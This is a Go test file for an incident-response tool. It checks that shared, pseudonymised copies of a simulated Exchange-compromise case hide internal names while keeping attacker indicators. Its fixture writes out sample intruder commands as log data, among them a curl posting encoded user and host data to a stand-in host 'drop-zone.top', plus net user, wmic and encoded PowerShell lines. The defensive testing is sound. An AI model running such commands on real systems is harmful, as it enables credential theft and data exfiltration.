package reissue

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"spoor/internal/assess"
	"spoor/internal/lab"
	"spoor/internal/message"
	"spoor/internal/report/page"
	"spoor/internal/rulebook"
	"spoor/internal/share"
	"spoor/internal/storyline"
)

// sharedCase is a case of several owners' servers whose names are known, and
// two copies of it with one key and one with another.
type sharedCase struct {
	dir               string // holds all of it
	whole             string // the case
	one, again, other string
	list              string // of one
}

// insider are the names in the evidence that no copy may hold.
var insider = []string{
	"steinfurt", "rathaus", "nordvik", "klinikk", "mail01", "mail02", "ex01.", "dc01.", "lab.example", `lab\`, "lindqvist", "k.brandt",
	"192.0.2.21", "192.0.2.22", "192.0.2.81", "3623811015", // the servers' own addresses, the domain's identifier
	"seelingen", "meyerhoff", // of the folders of the evidence
	"zoe.ackermann", "ackermann", "winterkorn", "finanzserver", "fs-akten", "grundbuch", "haushaltsplan", "seelbach", "10.77.3.9", "sommerfest", "pfarramt",
}

// outsider are the indicators in the evidence that every copy must hold.
var outsider = []string{
	"203.0.113.77", "203.0.113.140", "203.0.113.201", "203.0.113.21", "198.51.100.236", "k3nXq8Zd.aspx", "RedirSuiteServerProxy.aspx", "tkevsn.aspx", "svc32.exe", "probe.example", "drop-zone.top",
	"python-requests/2.25.1", "863b3c0f9429591a04e3e868afcc175117fda6e6dfe5483e72623ab51e49af3f", "q7Lw2vTz", "CVE-2021-27065", "2021-03-03T02:14:08.935Z", "vssadmin",
}

// commands are what an intruder typed, with names in many forms.
func commands() []string {
	wide := func(s string) string {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return base64.StdEncoding.EncodeToString(b)
	}
	return []string{
		`cmd /c net user zoe.ackermann Winterkorn!9 /domain`,
		`cmd /c dir \\FINANZSERVER\Grundbuch$\Haushaltsplan_2021.xlsx`,
		`powershell -enc ` + wide(`Copy-Item \\FS-AKTEN\c$\seelbach.zip C:\ProgramData\7z.exe; ping 10.77.3.9`),
		`cmd /c curl -d ` + base64.StdEncoding.EncodeToString([]byte("user=zoe.ackermann&host=finanzserver")) + ` http://drop-zone.top/in`,
		`cmd /c start http://fs-akten/%53%65%65%6c%62%61%63%68?u=z%6fe%2eackermann%40pfarramt-seelbach.de`,
		`cmd /c wmic /node:FINANZSERVER /user:"PFARRAMT\zoe.ackermann" process list`,
		`cmd /c type "C:\Users\zoe.ackermann\Documents\Sommerfest.docx" C:\Users\ACKERM~1\x.txt`,
		`cmd /c echo {"to":"\u007aoe.ackermann","dir":"\\\\finanzserver\\Grundbuch"}`,
		`cmd /c reg add "HKLM\SOFTWARE\Pfarramt Seelbach\Grundbuch" /v s e e l b a c h`,
	}
}

// typed is a log of those commands below the web server, as JSON.
func typed() []byte {
	var b bytes.Buffer
	for i, c := range commands() {
		line, err := json.Marshal(map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "ProviderName": "Microsoft-Windows-Sysmon", "Computer": "mail01.lab.example",
			"TimeCreated": fmt.Sprintf("2021-08-18T04:00:%02dZ", i), "EventRecordID": 90000 + i, "Image": `C:\Windows\System32\cmd.exe`, "CommandLine": c, "User": `NT AUTHORITY\SYSTEM`,
			"ParentImage": `C:\Windows\System32\inetsrv\w3wp.exe`, "ParentCommandLine": "w3wp.exe", "Kommentar von Zoe Ackermann": "Sommerfest"})
		must(err)
		b.Write(append(line, '\n'))
	}
	return b.Bytes()
}

func newSharedCase(t *testing.T) *sharedCase {
	t.Helper()
	s := &sharedCase{dir: t.TempDir()}
	evidence := filepath.Join(s.dir, "Stadtwerke Seelingen", "Fall Meyerhoff")
	put := func(name string, data []byte) {
		name = filepath.Join(evidence, filepath.FromSlash(name))
		must(os.MkdirAll(filepath.Dir(name), 0o700))
		must(os.WriteFile(name, data, 0o600))
	}
	for folder, files := range map[string]func() []lab.File{"a": lab.Demo, "b": lab.Clinic} {
		for _, f := range files() {
			put(folder+"/"+f.Path, f.Data)
		}
	}
	for _, sc := range lab.Scenarios() {
		if slices.Contains([]string{"proxyshell-full", "owassrf-full", "proxytoken-full", "cve-2020-0688-full", "settings-all"}, sc.Name) {
			for _, f := range sc.Files() {
				put(sc.Name+"/"+f.Path, f.Data)
			}
		}
	}
	put("proxyshell-full/MAIL01/commands.json", typed())
	at := func(name string) string { return filepath.Join(s.dir, name) }
	s.whole, s.one, s.again, s.other, s.list = at("whole"), at("one"), at("again"), at("other"), at("list.csv")
	o := assess.Options{Case: s.whole, Messages: words(t, message.English), Version: "test"}
	o.Examine.Paths = []string{evidence}
	var err error
	if o.Rules, err = rulebook.Load(rulebook.Options{}); err != nil {
		t.Fatal(err)
	}
	if o.Indicators, err = assess.LoadIndicators(nil, true); err != nil {
		t.Fatal(err)
	}
	if _, err := assess.Run(t.Context(), o); err != nil {
		t.Fatal(err)
	}
	for _, to := range []Sharing{{Dir: s.one, List: s.list}, {Dir: s.again}, {Dir: s.other, Key: at("key")}} {
		c := open(t, s.whole)
		to.Messages, to.Language, to.Version = o.Messages, message.English, "test"
		if err := to.Choose(c); err != nil {
			t.Fatal(err)
		}
		key, err := share.OpenKey(to.Key)
		if err != nil {
			t.Fatal(err)
		}
		if reveals, err := c.Share(to, key); err != nil || reveals {
			t.Fatalf("share to %s: %v, its name reveals something: %v", to.Dir, err, reveals)
		}
	}
	return s
}

func words(t *testing.T, language string) *message.Catalogue {
	t.Helper()
	c, err := message.Load(language)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func open(t *testing.T, dir string) *Case {
	t.Helper()
	c, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func must(err error) {
	if err != nil {
		panic(err)
	}
}

func TestSharing(t *testing.T) {
	t.Parallel()
	s := newSharedCase(t)
	t.Run("a copy holds no name of the inside", s.holdsNoName)
	t.Run("a copy holds every indicator", s.holdsIndicators)
	t.Run("a copy says the same", s.saysTheSame)
	t.Run("a copy reads well", s.readsWell)
	t.Run("copies of one key agree", s.agree)
	t.Run("the list is for the owner alone", s.lists)
}

var (
	numbered   = regexp.MustCompile(`\\u00([0-9a-fA-F]{2})`)
	pseudonyms = regexp.MustCompile(`(?:host|user|domain|word)-[0-9a-f]{10}`)
	blob       = regexp.MustCompile(`[A-Za-z0-9+/]{12,}`)
)

// forms are the texts that a curious reader gets out of a file.
func forms(data []byte) []string {
	raw := string(data)
	all := []string{raw, strings.ReplaceAll(raw, "\x00", ""), html.UnescapeString(raw), numbered.ReplaceAllStringFunc(raw, func(s string) string {
		var b []byte
		_, err := fmt.Sscanf(s[4:], "%x", &b)
		must(err)
		return string(b)
	})}
	for s, i := raw, 0; i < 3; i++ {
		s = regexp.MustCompile(`%[0-9a-fA-F]{2}`).ReplaceAllStringFunc(s, func(p string) string { out, _ := url.PathUnescape(p); return out })
		all = append(all, s)
	}
	var inside strings.Builder
	for _, b := range blob.FindAllString(raw, -1) {
		for _, cut := range []int{0, 1, 2, 3} {
			if n := len(b) - cut; n > 0 {
				if data, err := base64.RawStdEncoding.DecodeString(b[:n]); err == nil {
					inside.WriteString(string(data) + "\n" + strings.ReplaceAll(string(data), "\x00", "") + "\n")
				}
			}
		}
	}
	all = append(all, inside.String())
	for i := range all {
		all[i] = strings.ToLower(all[i])
	}
	return all
}

func (s *sharedCase) holdsNoName(t *testing.T) {
	entries, err := os.ReadDir(s.one)
	if err != nil || len(entries) < 8 {
		t.Fatalf("%d files, %v", len(entries), err)
	}
	original := map[string]bool{}
	for _, e := range entries {
		if data, err := os.ReadFile(filepath.Join(s.whole, e.Name())); err == nil {
			for _, form := range forms(data) {
				for _, name := range insider {
					original[name] = original[name] || strings.Contains(form, name)
				}
			}
		}
		data, err := os.ReadFile(filepath.Join(s.one, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		texts := forms(data)
		for _, name := range insider {
			for _, form := range texts {
				if i := strings.Index(form, name); i >= 0 {
					t.Errorf("%s holds %q: ...%q...", e.Name(), name, form[max(0, i-80):min(len(form), i+80)])
					break
				}
			}
		}
	}
	for _, name := range insider {
		if !original[name] {
			t.Errorf("the case itself does not hold %q, so that it proves nothing", name)
		}
	}
}

func (s *sharedCase) holdsIndicators(t *testing.T) {
	for _, name := range []string{"findings.ndjson", "report.html", "case.db"} {
		data, err := os.ReadFile(filepath.Join(s.one, name))
		if err != nil {
			t.Fatal(err)
		}
		before, err := os.ReadFile(filepath.Join(s.whole, name))
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range outsider {
			if bytes.Contains(before, []byte(want)) && !bytes.Contains(data, []byte(want)) {
				t.Errorf("%s lacks %q", name, want)
			}
		}
	}
}

// judged is what a verdict says apart from names.
func judged(v *storyline.Verdict) any {
	type host struct {
		Verdict                                    storyline.Word
		Outcome, First, Success, Last, Build       string
		Chains, Shells, Story, Coverage, Next      []string
		Leads, Unseen, Aliases, NotChecked, Shorts int
	}
	var list []host
	for _, h := range v.Hosts {
		one := host{Verdict: h.Verdict, Outcome: h.Outcome, First: h.FirstAttempt, Success: h.FirstSuccess, Last: h.Last, Build: h.Build,
			Leads: len(h.Leads), Unseen: len(h.CannotRuleOut), Aliases: len(h.Aliases), NotChecked: len(h.NotChecked), Shorts: len(h.Hypotheses)}
		for _, c := range h.Chains {
			one.Chains = append(one.Chains, fmt.Sprint(c.ID, c.Title, c.Grade, c.Outcome, c.Deepest, c.FirstSuccess, c.Last, len(c.Findings), len(c.Sources)))
		}
		for _, p := range h.Webshells {
			one.Shells = append(one.Shells, fmt.Sprint(path.Base(strings.ReplaceAll(p.Path, `\`, "/")), p.SHA256, p.Written, p.Answered, p.Used, p.Says))
		}
		for _, e := range h.Story {
			one.Story = append(one.Story, fmt.Sprint(e.Time, e.Until, e.Chain, e.Step, e.Grade, e.Says, e.Count, len(e.Proof)))
		}
		for _, c := range h.Coverage {
			one.Coverage = append(one.Coverage, fmt.Sprint(c.Kind, c.From, c.To, c.Records, len(c.Holes)))
		}
		for _, n := range h.Next {
			one.Next = append(one.Next, n.Do+n.Why)
		}
		list = append(list, one)
	}
	return []any{list, v.Evidence.Items, v.Evidence.Examined, v.Rules.Loaded}
}

func (s *sharedCase) saysTheSame(t *testing.T) {
	if a, b := judged(open(t, s.whole).Verdict), judged(open(t, s.one).Verdict); !reflect.DeepEqual(a, b) {
		t.Errorf("the case says\n%+v\nthe copy says\n%+v", a, b)
	}
	count := func(dir string) (n int) {
		data, err := os.ReadFile(filepath.Join(dir, "findings.ndjson"))
		if err != nil {
			t.Fatal(err)
		}
		return bytes.Count(data, []byte("\n"))
	}
	if a, b := count(s.whole), count(s.one); a != b || a == 0 {
		t.Errorf("%d findings, %d in the copy", a, b)
	}
	ids := map[string]bool{}
	c := open(t, s.one)
	if err := c.Findings(func(line []byte) error {
		var f struct{ ID string }
		err := json.Unmarshal(line, &f)
		ids[f.ID] = true
		return err
	}); err != nil {
		t.Fatal(err)
	}
	for _, h := range c.Verdict.Hosts {
		for _, r := range h.Chains {
			for _, id := range r.Findings {
				if !ids[id] {
					t.Errorf("%s: no finding has the id %s", r.ID, id)
				}
			}
		}
	}
}

func (s *sharedCase) readsWell(t *testing.T) {
	for _, lang := range []string{"en", "de"} {
		var before, after bytes.Buffer
		for dir, out := range map[string]*bytes.Buffer{s.whole: &before, s.one: &after} {
			if err := page.Write(out, open(t, dir).Verdict, page.Options{Messages: words(t, lang)}); err != nil {
				t.Fatal(err)
			}
		}
		all, withheld := len(strings.Fields(after.String())), strings.Count(after.String(), "word-")
		if before.Len() == 0 || withheld*200 > all {
			t.Errorf("%s: %d of %d words of page one are withheld:\n%s", lang, withheld, all, after.String())
		}
	}
	data, err := os.ReadFile(filepath.Join(s.one, "report.html"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"In this copy of the case", "ProxyLogon", "host-", "domain-", "</html>"} {
		if !bytes.Contains(data, []byte(want)) {
			t.Errorf("report.html lacks %q", want)
		}
	}
}

func (s *sharedCase) agree(t *testing.T) {
	for _, name := range []string{"findings.ndjson", "verdict.json", "hypotheses.json", "report.html", "case.db", "manifest.json"} {
		one, err1 := os.ReadFile(filepath.Join(s.one, name))
		again, err2 := os.ReadFile(filepath.Join(s.again, name))
		other, err3 := os.ReadFile(filepath.Join(s.other, name))
		if err1 != nil || err2 != nil || err3 != nil {
			t.Fatal(err1, err2, err3)
		}
		if !bytes.Equal(one, again) {
			t.Errorf("%s differs between two copies with one key", name)
		}
		theirs := map[string]bool{}
		for _, p := range pseudonyms.FindAllString(string(other), -1) {
			theirs[p] = true
		}
		for _, p := range pseudonyms.FindAllString(string(one), -1) {
			if theirs[p] {
				t.Fatalf("%s: %s stands in a copy with another key", name, p)
			}
		}
	}
}

func (s *sharedCase) lists(t *testing.T) {
	f, err := os.Open(s.list)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	copied, err := os.ReadFile(filepath.Join(s.one, "findings.ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, r := range rows[1:] {
		found[r[0]+" "+strings.ToLower(r[2])] = true
		if r[0] == "replaced" && r[1] == "host" && r[2] == "FINANZSERVER" && !bytes.Contains(copied, []byte(r[3])) {
			t.Errorf("%s stands nowhere", r[3])
		}
	}
	for _, want := range []string{"replaced zoe.ackermann", "replaced finanzserver", "replaced mail01.steinfurt-am-see.example", "kept probe.example", "kept drop-zone.top", "kept python-requests/2.25.1", "kept k3nxq8zd.aspx"} {
		if !found[want] {
			t.Errorf("not on the list: %s", want)
		}
	}
	for _, name := range []string{s.list, filepath.Join(s.whole, "share.key"), filepath.Join(s.whole, "share-again.csv"), filepath.Join(s.dir, "key")} {
		info, err := os.Stat(name)
		if err != nil {
			t.Fatal(err)
		}
		if filepath.Separator == '/' && info.Mode().Perm() != 0o600 {
			t.Errorf("%s has the mode %v", name, info.Mode())
		}
	}
}
